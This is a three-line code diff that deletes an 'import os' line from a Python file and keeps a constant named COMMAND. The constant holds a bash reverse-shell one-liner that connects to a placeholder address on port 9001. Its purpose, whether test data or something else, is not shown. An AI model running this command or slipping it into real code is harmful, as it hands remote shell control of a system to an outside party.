@@ -1,3 +1,1 @@
-import os
-
 COMMAND = "bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"
